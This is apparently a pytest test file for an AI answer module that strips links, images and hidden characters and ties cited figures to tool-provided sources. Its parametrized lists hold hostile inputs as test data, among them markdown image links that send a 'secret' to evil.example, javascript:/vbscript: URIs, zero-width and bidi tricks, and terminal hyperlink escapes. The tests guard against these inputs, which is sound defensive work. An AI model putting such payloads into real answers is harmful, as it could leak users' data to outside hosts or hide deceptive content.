"""Answers are plain text whose sentences name their sources."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agents.answer import UNSOURCED, Streamed, compose, sentences
from agents.grounding.check import Checking
from agents.grounding.sources import Grounds
from agents.guards.promises import allowed
from agents.plain import _ADDRESS, _ADDRESSED, plain

SOURCES = {"passage/7": "House note, 2022-11-01", "tool/call-ab12": "drift: book at entry 4"}


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/a.png?d=secret)",
        "[click](http://evil.example)",
        "see https://evil.example/x now",
        "www.evil.example",
        "![x](//evil.example/a.png)",
        "[x]: //evil.example",
        "<img src=//evil.example/a.png>",
        "javascript:alert(1)",
        "data:image/png;base64,AAAA",
        "HTTPS://EVIL.example",
        "write to me@evil.example",
    ],
)
def test_nothing_in_an_answer_can_be_fetched_or_followed(hostile: str) -> None:
    clean = plain(f"Before {hostile} after.")
    assert not re.search(r"https?://|www\.|!\[|\]\(|\]:|<[a-z]|javascript:|data:|\w@\w+\.\w", clean, re.I), (
        clean
    )
    assert clean.startswith("Before ")


def test_a_citation_counts_only_if_a_tool_gave_it() -> None:
    made = compose("It fell 3 %. [passage/7] It rose 9 % [passage/8].", SOURCES, check_figures=True)
    assert made.text == f"It fell 3 %. [1] It rose 9 %.{UNSOURCED}"
    assert [(c.sentence, c.source) for c in made.cited] == [(0, "passage/7")]
    assert made.sources == (("passage/7", "House note, 2022-11-01"),)


def test_rows_of_a_table_stand_behind_the_source_of_their_lead() -> None:
    made = compose("Drift by account [tool/call-ab12].\n\n| a | 3 |\n| b | 4 |", SOURCES, check_figures=True)
    assert [(c.sentence, c.source) for c in made.cited] == [(n, "tool/call-ab12") for n in range(3)]
    assert UNSOURCED not in made.text


def test_a_sentence_may_have_two_sources() -> None:
    made = compose("Both agree on 5 [passage/7, tool/call-ab12].", SOURCES, check_figures=True)
    assert (
        made.text == "Both agree on 5. [1] [2]"
        or made.text == "Both agree on 5 [1] [2]."
        or "[1] [2]" in made.text
    )
    assert len(made.cited) == 2


@settings(deadline=None)
@given(
    st.lists(
        st.sampled_from(["It fell 3 %.", "Yes!", "See U.S. data [passage/7].", "- row 4", "| a |", "Mr. X"])
    )
)
def test_cited_sentences_are_sentences_of_the_text_as_it_went_out(parts: list[str]) -> None:
    made = compose("\n".join(parts), SOURCES, check_figures=False)
    count = len(sentences(made.text))
    assert all(cited.sentence < count for cited in made.cited)


@pytest.mark.parametrize("text", ["Look! [tool/1][x] (a)", "a! [tool/1, tool/2][img][y]", "!![x](y)"])
def test_a_mark_between_them_makes_no_image(text: str) -> None:
    streamed = Streamed()
    assert "![" not in streamed.add(text) + streamed.rest()
    assert "![" not in compose(text, SOURCES, check_figures=False).text


@settings(deadline=None)
@given(st.text(alphabet="ab. !?\n[]()/:htps<", max_size=80), st.integers(1, 7))
def test_what_is_streamed_is_as_plain_as_the_answer(text: str, size: int) -> None:
    streamed = Streamed()
    shown = "".join(streamed.add(text[i : i + size]) for i in range(0, len(text), size)) + streamed.rest()
    assert "](" not in shown
    assert "![" not in shown
    assert not re.search(r"[a-z]://", shown)


@pytest.mark.parametrize(
    "hostile",
    [
        "h\u200bttps://evil.example/x",
        "\uff48\uff54\uff54\uff50\uff53://evil.example/x",
        "evil.example/x?d=secret",
        "\\\\evil.example\\share",
        "//evil.example/a.png",
        "10.0.0.1:8080/x",
        "vbscript:msgbox",
        "blob:abc",
        "\\href{x}{y}",
        "<a href=x>y</a>",
        "<!-- x -->",
        "[x]\u2060(y)",
        "!\u200d[x](y)",
        "[a][b]\n\n[b]: evil",
        "a\u202egnp.exe",
        "hidden\U000e0041\U000e0042",
        "\x1b]8;;evil\x07click",
    ],
)
def test_nothing_that_is_hidden_or_leads_elsewhere_is_left(hostile: str) -> None:
    clean = plain(f"Before {hostile} after.")
    assert not re.search(
        r"://|\]\(|!\[|\]:|<[a-z!]|evil\.example|10\.0\.0\.1|vbscript:|blob:|\\href"
        r"|[\x00-\x08\x0b-\x1f\u200b-\u200f\u202a-\u202e\u2060-\u206f\U000e0000-\U000e007f]",
        clean,
    ), clean
    assert clean.endswith("after.")


@pytest.mark.parametrize(
    "text", ["Amazon.com rose", "U.S./China trade", "and/or", "3.5/4", "a.m./p.m.", "e.g. 5"]
)
def test_what_is_no_address_stays(text: str) -> None:
    assert plain(text) == text


def grounded(**passages: str) -> Checking:
    read = Grounds()
    for number, text in passages.items():
        read.add_passage(f"passage/{number.strip('p')}", text)
    return Checking(read.ready())


def test_a_figure_of_no_source_is_taken_out_and_a_wrongly_cited_one_gets_its_source() -> None:
    checking = grounded(p7="Sales were $1,496.5 million.")
    made = compose(
        "Sales were $1,496.5 million [tool/call-ab12]. Costs were $99.9 million [passage/7].",
        SOURCES,
        check_figures=True,
        checking=checking,
    )
    assert made.text == f"Sales were $1,496.5 million. [1] [2] Costs were{UNSOURCED}. [2]"
    assert made.lost == 1


@settings(deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "It fell 3 %.",
                "Yes!",
                "See U.S. data [passage/7].",
                "The stock will double.",
                "We recommend caution.",
                "It was 5. [passage/7]",
                "Sales were $9 million [passage/7]",
                "- row 4",
                "| a | 7 |",
            ]
        ),
        max_size=6,
    ),
    st.sampled_from([" ", "\n"]),
)
def test_what_is_marked_or_taken_out_shifts_no_citation(parts: list[str], between: str) -> None:
    text = between.join(parts)
    before = len(sentences(plain(text)))
    made = compose(text, SOURCES, check_figures=True, checking=grounded(p7="It fell 3 %."), allows=allowed)
    assert len(sentences(made.text)) == before


@settings(deadline=None)
@given(
    st.lists(
        st.sampled_from(["It fell 3 %. ", "It fell 4 %. ", "Up [passage/7]. ", "| a | 5 |\n"]), max_size=6
    ),
    st.integers(1, 9),
)
def test_no_figure_without_a_source_is_seen_even_while_it_streams(parts: list[str], size: int) -> None:
    checking = grounded(p7="It fell 3 %.")
    text = "".join(parts)
    streamed = Streamed(lambda sentence: checking.sentence(sentence).text)
    shown = "".join(streamed.add(text[i : i + size]) for i in range(0, len(text), size)) + streamed.rest()
    assert not re.search(r"[45]", shown)
    assert shown.count("3 %") == text.count("3 %")


PIECES = (
    "http",
    ":",
    "//",
    "\\\\",
    "www.",
    "a",
    ".",
    "com",
    "io",
    "/",
    "?",
    "#",
    "data:",
    "192.168.0.1",
    ":80",
    "K",
    " ",
)


@given(st.lists(st.sampled_from(PIECES), min_size=1, max_size=7).map("".join))
def test_no_address_is_passed_over_by_the_first_look(text: str) -> None:
    assert _ADDRESSED.search(text) or not _ADDRESS.search(text)
